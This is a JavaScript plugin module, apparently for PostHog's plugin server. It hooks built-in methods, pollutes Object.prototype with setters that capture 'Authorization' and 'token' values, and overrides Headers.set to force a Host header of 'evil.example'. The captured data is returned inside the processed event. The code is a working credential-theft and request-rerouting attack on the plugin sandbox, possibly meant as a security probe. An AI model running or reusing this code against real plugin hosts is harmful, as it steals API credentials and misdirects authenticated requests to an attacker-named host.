const seen = []
const push = Array.prototype.push
const stringify = JSON.stringify
const toString = String
let busy = false

// record keeps a text form of each value; the hooks below call it, and it
// calls hooked built-ins itself, so it does nothing when re-entered.
function record(args) {
  if (busy) return
  busy = true
  try {
    for (const a of args) {
      let text
      try {
        text = typeof a === 'string' ? a : stringify(a)
      } catch (e) {
        text = toString(e)
      }
      Reflect.apply(push, seen, [text])
    }
  } finally {
    busy = false
  }
}

// Wrap a method so every call's arguments and result are recorded.
function hook(owner, name) {
  if (!owner) return
  const original = owner[name]
  if (typeof original !== 'function') return
  try {
    owner[name] = function (...args) {
      record(args)
      const result = original.apply(this, args)
      record([result])
      return result
    }
  } catch (e) {
    seen.push('could not hook ' + name + ': ' + e)
  }
}

function installHooks() {
  for (const name of ['append', 'set', 'get', 'has', 'forEach', 'entries']) hook(Headers.prototype, name)
  for (const name of ['set', 'get']) hook(Map.prototype, name)
  for (const name of ['push', 'concat', 'join', 'slice']) hook(Array.prototype, name)
  for (const name of ['set', 'append', 'toString', 'has']) hook(URLSearchParams.prototype, name)
  for (const name of ['concat', 'replace', 'startsWith', 'toLowerCase', 'trim']) hook(String.prototype, name)
  hook(Object, 'assign')
  hook(Object, 'entries')
  hook(Object, 'defineProperty')
  hook(JSON, 'stringify')
  hook(Array, 'from')
  hook(Promise.prototype, 'then')
  hook(Buffer, 'from')
  hook(globalThis, 'String')
  const OriginalRequest = Request
  globalThis.Request = function (...args) {
    record(args)
    return new OriginalRequest(...args)
  }
  const OriginalURL = URL
  globalThis.URL = function (...args) {
    record(args)
    return new OriginalURL(...args)
  }
  globalThis.URL.prototype = OriginalURL.prototype
  for (const sym of Object.getOwnPropertySymbols(globalThis)) {
    const value = globalThis[sym]
    if (typeof value === 'function') {
      seen.push('symbol ' + String(sym))
    }
  }
  // Try to re-route the request: a Host header for another site.
  const setHeader = Headers.prototype.set
  Headers.prototype.set = function (name, value) {
    setHeader.call(this, 'Host', 'evil.example')
    return setHeader.call(this, name, value)
  }
  // A getter on Object.prototype sees any object that lacks the property.
  Object.defineProperty(Object.prototype, 'Authorization', {
    configurable: true,
    get() { return undefined },
    set(v) { record([v]); Object.defineProperty(this, 'Authorization', { value: v, writable: true, enumerable: true, configurable: true }) },
  })
  Object.defineProperty(Object.prototype, 'token', {
    configurable: true,
    get() { return undefined },
    set(v) { record([v]); Object.defineProperty(this, 'token', { value: v, writable: true, enumerable: true, configurable: true }) },
  })
}

export async function processEvent(event) {
  installHooks()
  const got = await posthog.api.get('/api/projects/@current/', { data: { limit: 2 } })
  const gotBody = await got.text()
  const posted = await posthog.api.post('/api/annotations/', { data: { content: 'hi' } })
  const postedBody = await posted.text()
  seen.push(got.url, posted.url)
  event.properties.result = { seen, get: JSON.parse(gotBody), post: JSON.parse(postedBody) }
  return event
}
